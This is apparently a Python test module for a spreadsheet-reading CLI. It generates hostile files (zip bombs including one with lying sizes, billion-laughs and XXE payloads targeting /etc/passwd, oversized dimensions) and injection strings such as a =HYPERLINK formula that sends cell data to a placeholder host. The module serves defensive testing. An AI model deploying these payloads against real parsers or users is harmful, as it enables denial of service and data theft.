"""Hostile and broken input files, built on the fly (issue 7).

Every builder takes a directory and returns the path of one file it wrote there. Nothing big is
ever held in memory: the zip bomb's gigabyte of XML is one deflate block repeated (written with
a full flush, so each copy decompresses on its own), and the million-row sheet is streamed.

``CASES`` lists each file with what reading it must give: a refusal kode, or ``READ`` (read
within the bounds). ``python -m tests.hostile probe PATH`` reads one file with
:func:`kinerja_cli.safety.read_safely` and prints, as JSON, the outcome, the wall time and the
peak memory of the whole process tree (the probe, the fork server and every worker).
"""

from __future__ import annotations

import io
import json
import struct
import sys
import time
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

from kinerja_cli.layout import COL_REALISASI

READ = "READ"
"""Expected outcome of a file that must be read (within the bounds), not refused."""

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    f'<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>'
    '<sheet name="SKP" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)
EMPTY_SST = f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{MAIN_NS}" count="0"/>'

SKP_HEADER = ("NIP", "Nama", "Kode Indikator", "Target", "Realisasi TW1")


# ---- a minimal zip writer: precompressed members, lying sizes --------------------------------


@dataclass
class RawMember:
    """A member whose deflate data is given as ``copies`` repetitions of ``block``."""

    name: str
    block: bytes
    """Raw deflate data that decompresses to ``plain`` (ends with a full flush)."""
    plain: bytes
    copies: int
    head: bytes = b""
    tail: bytes = b""
    declared_size: int | None = None
    """Uncompressed size written in the headers (None: the true size)."""


def _deflate_full_flush(data: bytes, comp: zlib._Compress) -> bytes:
    return comp.compress(data) + comp.flush(zlib.Z_FULL_FLUSH)


def _local_header(crc: int, csize: int, declared: int, name: bytes) -> bytes:
    return (
        struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, csize, declared, len(name), 0)
        + name
    )


def _write_raw_member(out: io.BufferedWriter, member: RawMember) -> tuple[int, int, int]:
    """Write ``member`` (local header and data); return its crc, compressed size and the
    uncompressed size its headers declare."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    head_c = _deflate_full_flush(member.head, comp)
    block_c = _deflate_full_flush(member.plain, comp)
    block_again = _deflate_full_flush(member.plain, comp)
    assert block_c == block_again, "a full flush must make blocks independent"
    tail_c = comp.compress(member.tail) + comp.flush()
    crc = zlib.crc32(member.head)
    for _ in range(member.copies):
        crc = zlib.crc32(member.plain, crc)
    crc = zlib.crc32(member.tail, crc)
    size = len(member.head) + len(member.plain) * member.copies + len(member.tail)
    csize = len(head_c) + len(block_c) * member.copies + len(tail_c)
    declared = member.declared_size if member.declared_size is not None else size
    out.write(_local_header(crc, csize, declared, member.name.encode()))
    out.write(head_c)
    for _ in range(member.copies):
        out.write(block_c)
    out.write(tail_c)
    return crc, csize, declared


def write_zip(path: Path, members: Iterable[tuple[str, bytes] | RawMember]) -> Path:
    """Write a zip whose members are either (name, bytes) or :class:`RawMember` streams."""
    central: list[bytes] = []
    with open(path, "wb") as out:
        for member in members:
            offset = out.tell()
            if isinstance(member, RawMember):
                name = member.name.encode()
                crc, csize, declared = _write_raw_member(out, member)
            else:
                mname, data = member
                name = mname.encode()
                comp_data = zlib.compress(data, 6)[2:-4]
                crc, csize, declared = zlib.crc32(data), len(comp_data), len(data)
                out.write(_local_header(crc, csize, declared, name))
                out.write(comp_data)
            central.append(
                struct.pack(
                    "<4s6H3L5H2L",
                    b"PK\x01\x02",
                    20,
                    20,
                    0,
                    8,
                    0,
                    0,
                    crc,
                    csize,
                    declared,
                    len(name),
                    0,
                    0,
                    0,
                    0,
                    0,
                    offset,
                )
                + name
            )
        cd_offset = out.tell()
        for entry in central:
            out.write(entry)
        cd_size = out.tell() - cd_offset
        out.write(
            struct.pack(
                "<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), cd_size, cd_offset, 0
            )
        )
    return path


def xlsx_parts(sheet_xml: str | bytes, shared_strings: str = EMPTY_SST) -> list[tuple[str, bytes]]:
    """The parts of a one-sheet workbook ('SKP') with the given sheet and sharedStrings XML."""
    sheet = sheet_xml.encode() if isinstance(sheet_xml, str) else sheet_xml
    return [
        ("[Content_Types].xml", CONTENT_TYPES.encode()),
        ("_rels/.rels", ROOT_RELS.encode()),
        ("xl/workbook.xml", WORKBOOK.encode()),
        ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.encode()),
        ("xl/sharedStrings.xml", shared_strings.encode()),
        ("xl/worksheets/sheet1.xml", sheet),
    ]


def _col(n: int) -> str:
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def _cell(ref: str, value: object) -> str:
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = str(value).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def sheet_xml(
    rows: Iterable[Iterable[object]], *, dimension: str | None = None, extra_cells: str = ""
) -> str:
    body = []
    for r, row in enumerate(rows, start=1):
        cells = "".join(
            _cell(f"{_col(c)}{r}", v) for c, v in enumerate(row, start=1) if v is not None
        )
        body.append(f'<row r="{r}">{cells}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<worksheet xmlns="{MAIN_NS}">{dim}<sheetData>{"".join(body)}{extra_cells}'
        f"</sheetData></worksheet>"
    )


GOOD_ROWS = [SKP_HEADER, ("198501012010011001", "Budi Santoso", "DUK-01", 10, 8)]


# ---- the good file ---------------------------------------------------------------------------


def good_xlsx(d: Path, name: str = "baik.xlsx") -> Path:
    """A small valid workbook (one SKP sheet)."""
    return write_zip(d / name, xlsx_parts(sheet_xml(GOOD_ROWS, dimension="A1:E2")))


def good_csv(d: Path) -> Path:
    p = d / "baik.csv"
    p.write_text(
        "NIP;Nama;Kode Indikator;Target;Realisasi TW1\n198501012010011001;Budi;DUK-01;10;8\n",
        encoding="utf-8",
    )
    return p


# ---- the hostile files -----------------------------------------------------------------------

_ROW = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
_SHEET_HEAD = (
    f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{MAIN_NS}"><sheetData>'
).encode()
_SHEET_TAIL = b"</sheetData></worksheet>"


def _bomb(d: Path, name: str, megabytes: int, declared_size: int | None = None) -> Path:
    plain = _ROW * ((8 << 20) // len(_ROW))
    copies = max(1, (megabytes << 20) // len(plain))
    parts: list[tuple[str, bytes] | RawMember] = [
        p for p in xlsx_parts(sheet_xml(GOOD_ROWS)) if p[0] != "xl/worksheets/sheet1.xml"
    ]
    parts.append(
        RawMember(
            "xl/worksheets/sheet1.xml",
            b"",
            plain,
            copies,
            head=_SHEET_HEAD,
            tail=_SHEET_TAIL,
            declared_size=declared_size,
        )
    )
    return write_zip(d / name, parts)


def zip_bomb(d: Path) -> Path:
    """1 GiB of repeated cells in one sheet, about 1 MB on disk (ratio ~1000)."""
    return _bomb(d, "bom-zip.xlsx", 1024)


def ratio_bomb(d: Path) -> Path:
    """64 MiB that compress ~1000 times: under the size limits, over the ratio limit."""
    return _bomb(d, "bom-rasio.xlsx", 64)


def lying_bomb(d: Path) -> Path:
    """The 64 MiB sheet, but its headers claim it unpacks to 1,000 bytes."""
    return _bomb(d, "bom-bohong.xlsx", 64, declared_size=1000)


def billion_laughs(d: Path) -> Path:
    """The classic entity-expansion bomb in sharedStrings.xml (10^9 'lol')."""
    ents = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        ents.append(f'<!ENTITY lol{i} "{("&" + prev + ";") * 10}">')
    sst = (
        '<?xml version="1.0"?>\n<!DOCTYPE sst [' + "".join(ents) + "]>"
        f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    )
    sheet = sheet_xml([["A"]]).replace(
        't="inlineStr"><is><t xml:space="preserve">A</t></is>', 't="s"><v>0</v>'
    )
    return write_zip(d / "billion-laughs.xlsx", xlsx_parts(sheet, sst))


def xxe(d: Path) -> Path:
    """An external entity pointing at /etc/passwd in sharedStrings.xml."""
    sst = (
        '<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
    )
    sheet = sheet_xml([["A"]]).replace(
        't="inlineStr"><is><t xml:space="preserve">A</t></is>', 't="s"><v>0</v>'
    )
    return write_zip(d / "xxe.xlsx", xlsx_parts(sheet, sst))


def doctype_after_comment(d: Path) -> Path:
    """A DOCTYPE hidden behind a long comment in the sheet itself."""
    sheet = sheet_xml(GOOD_ROWS).replace(
        "<worksheet",
        "<!--" + "x" * 10_000 + '--><!DOCTYPE worksheet [<!ENTITY a "b">]><worksheet',
        1,
    )
    return write_zip(d / "doctype-komentar.xlsx", xlsx_parts(sheet))


def truncated_zip(d: Path) -> Path:
    """A valid workbook cut in half (an interrupted download)."""
    full = good_xlsx(d, "utuh.xlsx").read_bytes()
    p = d / "terpotong.xlsx"
    p.write_bytes(full[: len(full) // 2])
    return p


def csv_renamed(d: Path) -> Path:
    """A CSV file named .xlsx: read as CSV (the format comes from the bytes)."""
    p = d / "csv-menyamar.xlsx"
    p.write_bytes(good_csv(d).read_bytes())
    return p


def html_renamed(d: Path) -> Path:
    p = d / "halaman-web.xlsx"
    p.write_text(
        "<!DOCTYPE html><html><head><title>SKP</title></head><body><table><tr>"
        "<td>NIP</td><td>Nama</td></tr></table></body></html>",
        encoding="utf-8",
    )
    return p


def pdf_renamed(d: Path) -> Path:
    p = d / "cetakan.xlsx"
    p.write_bytes(
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )
    return p


def encrypted_ooxml(d: Path) -> Path:
    """A real password-protected workbook (ECMA-376 agile encryption, an OLE2 container)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = good_xlsx(d, "polos.xlsx")
    p = d / "bersandi.xlsx"
    with open(plain, "rb") as src, open(p, "wb") as out:
        OOXMLFile(src).encrypt("rahasia", out)
    return p


def encrypted_ods(d: Path) -> Path:
    """An .ods whose manifest says its content is encrypted."""
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest='
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/'
        'vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path='
        '"content.xml" manifest:media-type="text/xml"><manifest:encryption-data '
        'manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/>'
        "</manifest:file-entry></manifest:manifest>"
    )
    p = d / "bersandi.ods"
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr(
            "mimetype",
            "application/vnd.oasis.opendocument.spreadsheet",
            compress_type=zipfile.ZIP_STORED,
        )
        zf.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
        zf.writestr("content.xml", b"\x8f\x1e\x02random-encrypted-bytes" * 10)
    return p


def huge_dimension(d: Path) -> Path:
    """Cells at A1 and XFD1048576, declared as such: 17 billion cells (calamine aborts)."""
    corner = _cell("XFD1048576", "b")
    sheet = sheet_xml(
        [["a"]], dimension="A1:XFD1048576", extra_cells=f'<row r="1048576">{corner}</row>'
    )
    return write_zip(d / "dimensi-raksasa.xlsx", xlsx_parts(sheet))


def wide_dimension(d: Path) -> Path:
    """400 rows by 16,384 columns declared (A1:XFD400, 6.5 million cells), few rows."""
    corner = _cell("XFD400", "b")
    sheet = sheet_xml([["a"]], dimension="A1:XFD400", extra_cells=f'<row r="400">{corner}</row>')
    return write_zip(d / "dimensi-lebar.xlsx", xlsx_parts(sheet))


def huge_dimension_undeclared(d: Path) -> Path:
    """The same two corner cells without a <dimension>: only the sandbox can stop it."""
    corner = _cell("XFD1048576", "b")
    sheet = sheet_xml([["a"]], extra_cells=f'<row r="1048576">{corner}</row>')
    return write_zip(d / "dimensi-tersembunyi.xlsx", xlsx_parts(sheet))


def million_rows(d: Path) -> Path:
    """1,048,576 tiny rows (one number each), streamed: a legal but absurd sheet."""
    p = d / "sejuta-baris.xlsx"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in xlsx_parts(""):
            if name != "xl/worksheets/sheet1.xml":
                zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w") as w:
            w.write(
                f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{MAIN_NS}">'
                '<dimension ref="A1:A1048576"/><sheetData>'.encode()
            )
            buf = io.BytesIO()
            for r in range(1, 1_048_577):
                buf.write(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (r, r, r % 97))
                if r % 65536 == 0:
                    w.write(buf.getvalue())
                    buf = io.BytesIO()
            w.write(buf.getvalue())
            w.write(b"</sheetData></worksheet>")
    return p


def too_many_parts(d: Path) -> Path:
    """A workbook padded with 10,050 tiny extra parts (over the 10,000 default)."""
    p = d / "banyak-bagian.xlsx"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as zf:
        for name, data in xlsx_parts(sheet_xml(GOOD_ROWS)):
            zf.writestr(name, data)
        for i in range(10_050):
            zf.writestr(f"xl/media/x{i}.bin", b"")
    return p


def formula_only(d: Path) -> Path:
    """Formulas with no cached value (written by a tool, never opened in a spreadsheet)."""
    sheet = sheet_xml([SKP_HEADER, ("198501012010011001", "Budi", "DUK-01", 10)], extra_cells="")
    sheet = sheet.replace("</row></sheetData>", '<c r="E2"><f>SUM(D2,1)</f></c></row></sheetData>')
    return write_zip(d / "rumus-tanpa-nilai.xlsx", xlsx_parts(sheet))


NASTY_NAMES = (
    "Budi\x1b[2J\x1b]8;;http://contoh.invalid\x07klik\x1b]8;;\x07",
    "[bold red]Siti[/bold red] [link=http://contoh.invalid]Aminah[/link]",
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "\u202egnp.exe Ahmad",
    "Nama sangat panjang " + "x" * 5000,
)


def nasty_names(d: Path) -> Path:
    """Control characters, rich markup, a formula and a 5,000-character name as values."""
    rows = [SKP_HEADER] + [
        (f"19850101201001100{i}", n, "DUK-01", 10, 8) for i, n in enumerate(NASTY_NAMES)
    ]
    return write_zip(d / "nama-berbahaya.xlsx", xlsx_parts(sheet_xml(rows)))


def empty_file(d: Path) -> Path:
    p = d / "kosong.xlsx"
    p.write_bytes(b"")
    return p


@dataclass(frozen=True)
class Case:
    build: Callable[[Path], Path]
    expect: str
    """A refusal kode, or :data:`READ`."""

    @property
    def name(self) -> str:
        """The case's name: its builder's."""
        return self.build.__name__


CASES = (
    Case(zip_bomb, "keamanan_terurai_terlalu_besar"),
    Case(ratio_bomb, "keamanan_rasio_kompresi"),
    Case(lying_bomb, "berkas_rusak"),
    Case(billion_laughs, "berkas_xml_berbahaya"),
    Case(xxe, "berkas_xml_berbahaya"),
    Case(doctype_after_comment, "berkas_xml_berbahaya"),
    Case(truncated_zip, "berkas_rusak"),
    Case(csv_renamed, READ),
    Case(html_renamed, "format_tidak_didukung"),
    Case(pdf_renamed, "format_tidak_didukung"),
    Case(encrypted_ooxml, "berkas_terenkripsi"),
    Case(encrypted_ods, "berkas_terenkripsi"),
    Case(huge_dimension, "keamanan_baris_terlalu_banyak"),
    Case(wide_dimension, "keamanan_sel_terlalu_banyak"),
    Case(huge_dimension_undeclared, "keamanan_memori_habis"),
    Case(million_rows, "keamanan_baris_terlalu_banyak"),
    Case(too_many_parts, "keamanan_entri_zip_terlalu_banyak"),
    Case(formula_only, READ),
    Case(nasty_names, READ),
    Case(empty_file, "berkas_kosong"),
)


# ---- the probe: one file, one process tree, measured ------------------------------------------


def _own_peak_kb() -> int:
    """The probe's own peak memory since it started, in KiB.

    Linux keeps ``ru_maxrss`` across ``exec``: a probe started by a pytest process of 500 MB
    reports 500 MB whatever it read. ``VmHWM`` belongs to the probe's own address space; where
    ``/proc`` is missing, ``ru_maxrss`` is the upper bound."""
    import resource

    try:
        status = Path("/proc/self/status").read_text(encoding="ascii")
    except OSError:
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for line in status.splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


def probe(path: str) -> dict[str, object]:
    """Read ``path`` with the default limits; outcome, seconds and peak memory of the tree."""
    import resource
    from multiprocessing import forkserver

    from kinerja_cli.config import Keamanan
    from kinerja_cli.errors import KinerjaError
    from kinerja_cli.safety import read_safely

    start = time.perf_counter()
    try:
        wb = read_safely(path, limits=Keamanan())
        outcome = READ
        rows = sum(len(s.rows) for s in wb.sheets.values())
    except KinerjaError as exc:
        outcome = exc.kode
        rows = 0
    seconds = time.perf_counter() - start
    # Stop the fork server and wait for it, so the workers it reaped count in RUSAGE_CHILDREN.
    stop = getattr(forkserver._forkserver, "_stop", None)  # private, Python 3.8-3.13
    if stop is not None:
        stop()
    peak_kb = max(_own_peak_kb(), resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
    return {
        "outcome": outcome,
        "seconds": round(seconds, 3),
        "peak_mb": round(peak_kb / 1024, 1),
        "rows": rows,
    }


def city_workbook(path: Path, employees: int = 400, indicators: int = 6, seed: int = 0) -> Path:
    """A filled unit workbook of city scale (Identitas, Pegawai, SKP), for overhead figures."""
    import random

    import xlsxwriter

    rnd = random.Random(seed)
    wb = xlsxwriter.Workbook(str(path), {"constant_memory": True})
    ws = wb.add_worksheet("Identitas")
    for r, (k, v) in enumerate(
        [("Instansi", "Pemerintah Kota Contoh"), ("Kode Unit", "UJI"), ("Tahun", 2026)]
    ):
        ws.write_row(r, 0, [k, v])
    nips = [
        f"19{rnd.randint(60, 99)}0{rnd.randint(1, 9)}1{rnd.randint(0, 2)}20{rnd.randint(10, 23)}"
        f"0{rnd.randint(1, 9)}1{rnd.randint(0, 9)}{i % 10:02d}"
        for i in range(employees)
    ]
    ws = wb.add_worksheet("Pegawai")
    ws.write_row(
        0,
        0,
        ["NIP", "Nama", "Jabatan", "Golongan", "Rating Hasil Kerja", "Rating Perilaku", "Catatan"],
    )
    for i, nip in enumerate(nips, start=1):
        ws.write_row(i, 0, [nip, f"Pegawai {i}", "Analis", "III/a", None, "Sesuai Ekspektasi"])
    ws = wb.add_worksheet("SKP")
    ws.write_row(
        0,
        0,
        ["NIP", "Nama", "Kode Indikator", "Indikator", "Satuan", "Target", "Bobot", *COL_REALISASI],
    )
    r = 1
    for i, nip in enumerate(nips, start=1):
        for k in range(indicators):
            ws.write_row(
                r,
                0,
                [
                    nip,
                    f"Pegawai {i}",
                    f"X-{k:02d}",
                    f"Indikator {k}",
                    "%",
                    90,
                    round(100 / indicators, 2),
                ]
                + [round(rnd.uniform(60, 110), 1) for _ in range(4)],
            )
            r += 1
    wb.close()
    return path


def overhead(folder: Path, count: int = 40, rounds: int = 3) -> dict[str, float]:
    """Seconds to read ``count`` city-scale workbooks: raw python-calamine (every sheet to
    Python, serially), the reader in-process, and :func:`read_many` (pre-flight + sandbox)."""
    import statistics

    import python_calamine as pc

    from kinerja_cli.config import Keamanan
    from kinerja_cli.readers import read_workbook
    from kinerja_cli.safety import read_many

    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for i in range(count):
        p = folder / f"RENCANA-U{i:02d}-2026.xlsx"
        if not p.exists():
            city_workbook(p, seed=i)
        paths.append(p)

    def raw() -> None:
        for p in paths:
            with pc.CalamineWorkbook.from_path(str(p)) as wb:
                for name in wb.sheet_names:
                    wb.get_sheet_by_name(name).to_python(skip_empty_area=False)

    def reader() -> None:
        for p in paths:
            read_workbook(p)

    def safe() -> None:
        out = read_many(paths, limits=Keamanan())
        assert not any(isinstance(o, Exception) for o in out), out

    def safe_one_worker() -> None:
        out = read_many(paths, limits=Keamanan(), workers=1)
        assert not any(isinstance(o, Exception) for o in out), out

    figures: dict[str, float] = {}
    for label, fn in (
        ("raw_calamine", raw),
        ("reader_in_process", reader),
        ("read_many", safe),
        ("read_many_1_worker", safe_one_worker),
    ):
        times = []
        for _ in range(rounds):
            start = time.perf_counter()
            fn()
            times.append(time.perf_counter() - start)
        figures[label] = round(statistics.median(times), 3)
    for label in ("reader_in_process", "read_many", "read_many_1_worker"):
        figures[label + "_ratio"] = round(figures[label] / figures["raw_calamine"], 2)
    figures["files"] = count
    return figures


def main(argv: list[str]) -> int:
    if len(argv) == 2 and argv[0] == "probe":
        print(json.dumps(probe(argv[1])))
        return 0
    if len(argv) == 2 and argv[0] == "overhead":
        print(json.dumps(overhead(Path(argv[1]))))
        return 0
    if len(argv) == 1:  # build the whole corpus into a folder, for a look by hand
        out = Path(argv[0])
        out.mkdir(parents=True, exist_ok=True)
        for case in CASES:
            print(case.build(out), case.expect)
        return 0
    print("usage: python -m tests.hostile probe PATH | overhead DIR | DIR", file=sys.stderr)
    return 2


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))


# ---- worker functions for the sandbox tests (module-level: they pickle by reference) ----------


def echo(*args: object) -> tuple[object, ...]:
    return args


def sleep_for(seconds: float) -> str:
    time.sleep(seconds)
    return "bangun"


def abort_now() -> None:
    import os

    os.abort()


def exit_with(code: int) -> None:
    import os

    os._exit(code)


def hog_memory(megabytes: int) -> int:
    """Touch ``megabytes`` of memory (a MemoryError under a smaller cap)."""
    block = bytearray(megabytes << 20)
    for i in range(0, len(block), 4096):
        block[i] = 1
    return len(block)


def raise_input_error(path: str) -> None:
    from kinerja_cli.errors import InputError

    raise InputError("berkas_rusak", path=path, detail="uji")


def raise_config_error() -> None:
    from kinerja_cli.errors import ConfigError, ConfigProblem

    raise ConfigError(
        "konfig_tidak_sah",
        problems=[ConfigProblem("tahun", 2, "konfig_wajib")],
        path="x.yaml",
        jumlah=1,
    )


def raise_value_error() -> None:
    raise ValueError("bug di pembaca")


def memory_cap() -> int:
    """The worker's RLIMIT_AS soft limit, in bytes."""
    import resource

    return resource.getrlimit(resource.RLIMIT_AS)[0]


def calamine_corners(path: str) -> int:
    """Read every sheet with python-calamine, unguarded (aborts on a huge sparse sheet)."""
    import python_calamine as pc

    with pc.CalamineWorkbook.from_path(path) as wb:
        return sum(
            len(wb.get_sheet_by_name(n).to_python(skip_empty_area=False)) for n in wb.sheet_names
        )
